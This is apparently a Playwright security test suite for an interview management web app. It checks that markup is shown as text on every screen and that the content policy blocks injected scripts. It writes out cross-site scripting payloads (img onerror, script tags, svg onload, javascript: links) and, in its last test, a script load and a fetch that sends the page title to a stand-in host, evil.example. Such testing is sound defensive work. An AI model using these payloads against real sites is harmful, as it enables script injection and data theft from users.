import type { BrowserContext, Page } from '@playwright/test';
import type { Interview } from '#contracts/interviews.ts';
import { chooseAction, expect, expectToast, test } from './support/journey.ts';
import type { RunningProduct } from './support/product.ts';

test.describe.configure({ mode: 'parallel' });

test('the API documentation is shown under its policy without console errors', async ({ page, signIn }) => {
  await signIn();
  await page.goto('/api/docs');
  await expect(page.getByRole('heading', { name: /Video Interview Management/ })).toBeVisible();
  // The page shows operations as they are scrolled into view.
  await page.getByText('/api/setup', { exact: true }).click();
  await expect(page.getByRole('button', { name: 'Try it out' })).toBeVisible();
});

/** Runs if it is ever parsed as markup. */
const HOSTILE = `"'><img src=x onerror="attacked=1"><script>attacked=1</script><svg onload="attacked=1"><a href="javascript:attacked=1">`;
/** Markup that a parser reports to the policy even if it is never shown. */
const REPORTED =
  '<svg/onload="attacked=1"><img/src=x/onerror=attacked=1><p/style="color:red">p</p><style>p { color: red }</style>';
const SHORT = '<img src=x onerror="attacked=1">';

/** Creates an interview and a funnel with markup in every displayed field. */
async function hostileInterview({ recruiter, sandbox }: RunningProduct): Promise<Interview> {
  const [first, ...others] = sandbox.control.interviews('warehouse');
  for (const { id } of others) sandbox.control.remove('warehouse', id);
  const words = {
    title: `Title ${HOSTILE}`,
    description: `<b>Description</b> ${HOSTILE}`,
    url: 'https://x.example/"><script>',
  };
  sandbox.control.change('warehouse', first?.id ?? '', {
    ...words,
    candidate: { name: `Name ${HOSTILE}`, email: `${SHORT}@example.com`, phone: SHORT },
    questions: [{ position: 0, question: `Question ${HOSTILE}${REPORTED}` }],
  });
  const expectations = { professionalExpectations: HOSTILE, skillExpectations: HOSTILE, cultureExpectations: HOSTILE };
  const form = { name: `Funnel ${SHORT}`, clientName: SHORT, description: HOSTILE, skills: HOSTILE, ...expectations };
  const [warehouse] = await recruiter.connect({
    ...(sandbox.funnels[3] as RunningProduct['sandbox']['funnels'][0]),
    ...form,
  });
  if (warehouse) await recruiter.refresh(warehouse);
  sandbox.control.change('warehouse', first?.id ?? '', {
    title: `Changed ${HOSTILE}`,
    updatedAt: new Date().toISOString(),
  });
  if (warehouse) await recruiter.refresh(warehouse);
  const [interview] = await recruiter.interviews();
  if (!interview) throw new Error('The refresh brought no interview.');
  await recruiter.call('PUT', `/api/interviews/${interview.id}/transcript`, { transcriptionText: `Words ${HOSTILE}` });
  await recruiter.call('PUT', `/api/interviews/${interview.id}/summary`, {
    summaryText: `# Summary ${HOSTILE}\n\n- ${HOSTILE}`,
  });
  return interview;
}

/** Records scripts that ran and policy violations on all pages of the context. */
async function watchScripts(context: BrowserContext): Promise<() => Promise<unknown[]>> {
  const violations: unknown[] = [];
  await context.exposeBinding('reportViolation', (_, violation) => void violations.push(violation));
  await context.addInitScript(`
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      reportViolation({ effectiveDirective, blockedURI, sample }));
    Object.defineProperty(window, 'attacked', { set() { reportViolation('a script ran'); } });
    for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => reportViolation(name);
  `);
  return async () => {
    for (const page of context.pages()) await page.evaluate('document.title');
    return violations;
  };
}

async function openEverythingOf(page: Page): Promise<void> {
  const card = page.getByRole('article');
  const dialog = page.getByRole('dialog');
  const close = async () => {
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
  };
  await expect(card).toContainText('Changed "\'><img src=x onerror=');
  await chooseAction(card, 'View Questions');
  await expect(dialog).toContainText('Question "\'>');
  await close();
  await card.getByRole('button', { name: /^Play / }).click();
  await expect(dialog).toContainText('Name "\'><img src=x');
  await close();
  for (const [tab, words] of [
    ['Transcript', 'Words "'],
    ['Summary', 'Summary "'],
  ] as const) {
    await card.getByRole('tab', { name: tab }).click();
    await card.getByRole('button', { name: `View ${tab}` }).click();
    await expect(dialog).toContainText(words);
    await dialog.getByRole('button', { name: 'Edit' }).click();
    await expect(dialog.getByRole('textbox')).toHaveValue(/<script>attacked=1<\/script>/);
    await close();
  }
}

test('markup from users and services is shown as text on every screen', async ({
  page,
  context,
  product,
  signIn,
  console,
}) => {
  test.slow();
  console.allow(401, '/api/login');
  await hostileInterview(product);
  const stopped = await watchScripts(context);

  // The log contains the input of the sign-in form if an account has that name.
  await product.sql('INSERT INTO account (username, password_hash) SELECT $1, password_hash FROM account', [HOSTILE]);
  await page.goto('/login');
  await page.getByLabel('Username').fill(HOSTILE);
  await page.getByLabel('Password').fill(HOSTILE);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expectToast(page, 'Authentication failed', 'Invalid username or password');
  await signIn();

  await page.goto(`/?search=${encodeURIComponent('Changed "')}`);
  await openEverythingOf(page);
  await page.getByRole('button', { name: 'Compact' }).click();
  await page.getByRole('button', { name: /^Details of/ }).click();
  await page.getByRole('button', { name: /^Funnels: / }).click();
  await expect(page.getByRole('dialog', { name: 'Funnels' })).toContainText(SHORT);
  await page.goto(`/?search=${encodeURIComponent(HOSTILE)}&clientName=${encodeURIComponent(SHORT)}`);
  await expect(page.getByRole('searchbox', { name: 'Search interviews' })).toHaveValue(HOSTILE);
  await expect(page.getByRole('heading', { name: `Changed ${HOSTILE}` })).toBeVisible();

  await page.goto('/funnels');
  await expect(page.getByRole('article')).toContainText(`Funnel ${SHORT}`);
  await page.getByRole('button', { name: 'Delete' }).click();
  await expect(page.getByRole('alertdialog')).toContainText(`Funnel ${SHORT}`);

  await page.goto('/system-logs');
  const entries = page.getByRole('table', { name: 'Log entries' }).locator('tbody').getByRole('row');
  for (const action of ['sync-interviews', 'sign-in']) {
    await entries.filter({ hasText: action }).first().getByRole('button', { name: 'Details' }).click();
    await expect(page.getByRole('dialog', { name: 'Log Details' })).toContainText('<img src=x');
    await page.keyboard.press('Escape');
  }
  expect(await stopped()).toEqual([]);
  await product.sql('DELETE FROM account WHERE username = $1', [HOSTILE]);
});

test('an injected script does not run and sends nothing', async ({ browser, product, signIn }) => {
  // Uses a separate browser context, because console errors are expected here.
  const context = await browser.newContext({ baseURL: product.url });
  await signIn(context);
  const stopped = await watchScripts(context);
  const page = await context.newPage();
  await page.goto('/funnels');
  await expect(page.getByRole('heading', { name: 'Funnel Management' })).toBeVisible();
  const attempts = {
    'markup that becomes nodes': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="attacked=1">')`,
    'a string that becomes code': `new Function('attacked = 1')()`,
    'a script of another site': `Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })`,
    'a new policy': `trustedTypes.createPolicy('evil', {})`,
    'a message to another site': `await fetch('https://evil.example/?' + document.title)`,
  };
  for (const [attempt, code] of Object.entries(attempts)) {
    // In a timeout: code that Playwright evaluates directly is exempt from the page's policy.
    const tried = `new Promise((resolve) => setTimeout(async () => {
      try { ${code}; resolve('done'); } catch { resolve('refused'); }
    }))`;
    expect([attempt, await page.evaluate(tried)]).toEqual([attempt, 'refused']);
  }
  expect(await stopped()).not.toContain('a script ran');
  await context.close();
});
